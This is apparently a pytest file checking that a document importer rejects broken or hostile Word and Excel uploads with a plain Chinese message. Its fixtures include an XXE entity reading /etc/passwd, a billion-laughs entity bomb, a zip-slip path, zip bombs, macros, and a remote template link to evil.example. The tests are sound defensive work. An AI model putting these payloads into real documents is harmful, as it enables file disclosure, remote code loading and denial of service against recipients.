"""Word and Excel files as they should not be: one Chinese sentence that says what to do, never a traceback."""

import tracemalloc

import pytest

from tasks_app.importing.files import archive
from tasks_app.importing.plan_file import read_plan
from tasks_app.importing.reading import Masthead
from tests.importing.made_files import (
    HEADER,
    ROW,
    document,
    marked_encrypted,
    part_of,
    with_link,
    with_parts,
    workbook,
)

GIVEN = Masthead("珠府〔2024〕1号", "某方案", "珠海市人民政府")
BOOK, WORD = workbook(), document()
SHEET, TEXT = "xl/worksheets/sheet1.xml", "word/document.xml"
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "一"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    "<worksheet><sheetData><row><c t='str'><v>&c;</v></c></row></sheetData></worksheet>"
)
OUTSIDE_ENTITY = (
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document xmlns:w="w"><w:p>&x;</w:p></w:document>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
REMOTE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
)


def read(content, known, name="plan.xlsx"):
    return read_plan(content, name=name, known=known, given=GIVEN)


def sentence(content, known):
    [fault] = read(content, known).faults
    return fault.message


def typed(old, new):
    """The workbook with another declared type of its main part."""
    return with_parts(BOOK, {"[Content_Types].xml": part_of(BOOK, "[Content_Types].xml").replace(old, new)})


def far_away(_book, page):
    page.write(1_048_575, 16_383, "末")


def uncalculated(_book, page):
    page.write_formula(1, 2, "=A1&B1", None, "")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        pytest.param(OLE, "旧版 Office", id="ole"),
        pytest.param(OLE + "EncryptedPackage".encode("utf-16-le"), "取消密码", id="encrypted"),
        pytest.param(OLE + "WordDocument".encode("utf-16-le"), "另存为 .docx", id="doc-or-wps"),
        pytest.param(OLE + "Workbook".encode("utf-16-le"), "另存为 .xlsx", id="xls-renamed"),
        pytest.param(b"<html><table><tr><td>1</td></tr></table>", "网页（HTML）", id="html-renamed"),
        pytest.param(b'<?xml version="1.0"?><Workbook/>', "XML 格式的旧版文件", id="xml-2003"),
        pytest.param(b"{\\rtf1}", "RTF", id="rtf"),
        pytest.param(b"MZ\x90\0", "程序", id="program"),
        pytest.param(b"\x89PNG\r\n\x1a\n", "图片", id="picture"),
        pytest.param(BOOK[: len(BOOK) // 2], "损坏或不完整", id="truncated"),
        pytest.param(BOOK.replace(b"PK\x01\x02", b"PK\x01\x03"), "损坏或不完整", id="no-directory"),
        pytest.param(marked_encrypted(BOOK), "加了密码", id="zip-with-password"),
        pytest.param(with_parts(BOOK, {"../../etc/passwd": "x"}), "文件以外的路径", id="slip"),
        pytest.param(with_link(BOOK), "链接", id="symlink"),
        pytest.param(with_parts(BOOK, {"xl/vbaProject.bin": "x"}), "带有宏", id="macros"),
        pytest.param(typed("spreadsheetml.sheet.main", "x.sheet.macroEnabled.main"), "带有宏", id="xlsm-renamed"),
        pytest.param(typed("spreadsheetml.sheet.main+xml", "sheet.binary.macroEnabled.main"), "宏", id="xlsb"),
        pytest.param(with_parts(WORD, {"word/embeddings/oleObject1.bin": "x"}), "嵌入了其他文件", id="ole-inside"),
        pytest.param(with_parts(WORD, {"word/_rels/settings.xml.rels": REMOTE}), "引用了其他地方的模板", id="template"),
        pytest.param(with_parts(BOOK, {"[Content_Types].xml": None}), "压缩包，不是 Word", id="plain-zip"),
        pytest.param(with_parts(BOOK, {"mimetype": "x"}), "OpenDocument", id="ods"),
        pytest.param(with_parts(BOOK, {SHEET: None}), "没有工作表", id="no-sheet"),
        pytest.param(with_parts(BOOK, {SHEET: ENTITIES}), "实体定义", id="entity-bomb"),
        pytest.param(with_parts(WORD, {TEXT: OUTSIDE_ENTITY}), "实体定义", id="entity-from-outside"),
        pytest.param(with_parts(BOOK, {SHEET: "<worksheet><sheetData>"}), "损坏或不完整", id="cut-xml"),
        pytest.param(with_parts(WORD, {TEXT: "<a>" * 5_000}), "损坏或不完整", id="too-deep"),
        pytest.param(with_parts(BOOK, {SHEET: b" " * 110_000_000}), "展开后过大", id="bomb"),
        pytest.param(with_parts(BOOK, {SHEET: b"<a>" + b" " * 3_000_000}), "展开后过大", id="ratio"),
        pytest.param(workbook(change=far_away), "单元格 XFD1048576 有内容", id="last-cell"),
        pytest.param(workbook([HEADER, *[ROW] * 20_001]), "单元格 A20001 有内容", id="too-many-rows"),
        pytest.param(workbook([[*HEADER, *"列" * 80]]), "单元格 BM1 有内容", id="too-many-columns"),
        pytest.param(workbook(change=uncalculated), "单元格 C2 是公式", id="formula-without-value"),
        pytest.param(document([["", ""]]), "没有文字", id="empty-document"),
        pytest.param(workbook([]), "没有文字", id="empty-workbook"),
        pytest.param(b"PK\x03\x04" + b"x" * (20 * 1024 * 1024), "超过 20 MB", id="huge"),
    ],
)
def test_file_that_cannot_be_read_says_what_to_do(content, said, known):
    assert said in sentence(content, known)


def test_damaged_part_is_noticed_by_its_checksum(known):
    spoiled = bytearray(BOOK)
    spoiled[BOOK.find(b"sheet1.xml") + 60] ^= 0xFF
    assert "损坏或不完整" in sentence(bytes(spoiled), known)


def test_file_that_takes_too_long_is_given_up(known, monkeypatch):
    monkeypatch.setattr(archive, "LONGEST_SECONDS", -1.0)
    assert "秒内没有读完" in sentence(BOOK, known)


def test_bomb_is_refused_before_it_is_unpacked(known):
    bomb = with_parts(BOOK, {SHEET: b" " * 60_000_000})
    tracemalloc.start()
    read(bomb, known)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5_000_000
